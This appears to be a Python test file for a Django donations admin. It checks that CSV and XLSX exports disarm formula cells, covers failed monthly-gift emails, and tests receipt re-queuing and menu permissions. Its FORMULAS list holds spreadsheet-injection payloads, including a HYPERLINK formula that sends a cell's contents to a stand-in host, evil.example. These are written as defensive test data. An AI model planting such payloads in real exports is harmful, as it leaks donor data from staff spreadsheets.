"""What staff download and see: exports that cannot run a donor's formula, failing monthly gifts,
and the ledger's events that need a look."""

import csv
import io
import re

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Permission
from django.core import mail
from django.test import Client
from django_tasks_db.models import DBTaskResult

from donations.models import Donation, MonthlyPledge
from tests.support.email import assert_branded, run_email_worker
from tests.support.stripe import BASIL, PINNED, event, post_event, subscription_invoice

INDEX = "/admin/donations/donation/"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&B2,"Click")', "+1+2", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


@pytest.fixture
def staff_client(client, db):
    client.force_login(get_user_model().objects.create_superuser("staff", "staff@example.org", "pw"))
    return client


@pytest.fixture
def formula_gifts(campaign):
    for n, text in enumerate(FORMULAS):
        Donation.objects.create(
            page=campaign["runner"],
            amount_cents=1000 + n,
            donor_name=text,
            message=text,
            tribute_name=text,
            source="stripe",
            stripe_payment_id=f"pi_formula_{n}",
        )


def test_csv_export_neutralises_cells_a_spreadsheet_would_run(staff_client, formula_gifts):
    response = staff_client.get(INDEX, {"export": "csv"})
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))

    assert len(rows) == len(FORMULAS)
    for row in rows:
        for column in ("Donor name", "Message", "Dedicated to"):
            assert row[column].startswith("'"), row[column]
            assert row[column].replace("'", "") in FORMULAS  # what the donor typed stays readable
        assert re.fullmatch(r"\d+\.\d\d", row["Amount"])  # amounts are dollars, not disarmed


def test_xlsx_export_keeps_donor_text_as_text(staff_client, formula_gifts):
    response = staff_client.get(INDEX, {"export": "xlsx"})
    content = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    column = [cell.value for cell in next(sheet.iter_rows())].index("Donor name")
    names = [row[column].value for row in sheet.iter_rows(min_row=2)]
    kinds = {row[column].data_type for row in sheet.iter_rows(min_row=2)}

    assert all(name.startswith("'") for name in names)
    assert kinds == {"s"}  # strings, not formulas ("f")


@pytest.mark.django_db(transaction=True, serialized_rollback=True)
@pytest.mark.parametrize("version", [PINNED, BASIL])
def test_declined_renewal_asks_the_donor_to_update_the_card_and_shows_staff_the_failing_pledge(
    staff_client, campaign, version
):
    MonthlyPledge.objects.create(
        stripe_subscription_id="sub_monthly",
        page=campaign["runner"],
        amount_cents=2500,
        donor_name="Ana Mile",
        donor_email="ana@example.org",
    )
    invoice = subscription_invoice("in_failed", "sub_monthly", 0, "pi_failed", api_version=version)
    invoice["hosted_invoice_url"] = "https://invoice.stripe.com/i/acct_x/test_in_failed"
    post_event(staff_client, event("invoice.payment_failed", invoice, api_version=version))
    post_event(staff_client, event("invoice.payment_failed", invoice, api_version=version))  # Stripe's next try
    run_email_worker()

    assert [m.to for m in mail.outbox] == [["ana@example.org"]]  # asked once, not at every retry
    assert "https://invoice.stripe.com/i/acct_x/test_in_failed" in mail.outbox[0].body
    assert_branded(mail.outbox[0], "did not go through", links=["https://invoice.stripe.com/i/acct_x/test_in_failed"])
    assert not Donation.objects.exists()
    listing = staff_client.get("/admin/donations/monthlypledge/", {"failing_since__isempty": "0"}).content.decode()
    assert "Ana Mile" in listing


def test_unsent_receipts_page_lists_them_and_staff_can_queue_them_again(staff_client, campaign):
    sent = Donation.objects.create(
        amount_cents=5000,
        donor_name="Sent Person",
        donor_email="sent@example.org",
        source="stripe",
        stripe_payment_id="pi_sent",
    )
    Donation.objects.filter(pk=sent.pk).update(receipt_sent_at="2026-01-01T00:00:00Z")
    unsent = Donation.objects.create(
        amount_cents=7000,
        donor_name="Waiting Person",
        donor_email="wait@example.org",
        source="stripe",
        stripe_payment_id="pi_wait",
    )
    page = staff_client.get("/admin/donations/unsent-receipts/").content.decode()
    assert "Waiting Person" in page and "Sent Person" not in page

    staff_client.post("/admin/donations/unsent-receipts/", {"donation": [unsent.pk, sent.pk]})
    queued = [job.args_kwargs["args"] for job in DBTaskResult.objects.filter(task_path__endswith="send_receipt")]
    assert queued == [[unsent.pk]]


def test_only_staff_who_may_resend_receipts_see_them_in_the_menu(staff_client, db):
    editor = get_user_model().objects.create_user("editor", "editor@example.org", "pw")
    editor.user_permissions.add(Permission.objects.get(codename="access_admin"))
    client = Client()
    client.force_login(editor)
    assert client.get("/admin/").status_code == 200
    # An editor would otherwise follow the link to a refusal.
    assert "Receipts not sent" not in client.get("/admin/").content.decode()
    refused = client.get("/admin/donations/unsent-receipts/")
    assert (refused.status_code, refused["Location"]) == (302, "/admin/")  # Wagtail's refusal
    assert "Receipts not sent" in staff_client.get("/admin/").content.decode()
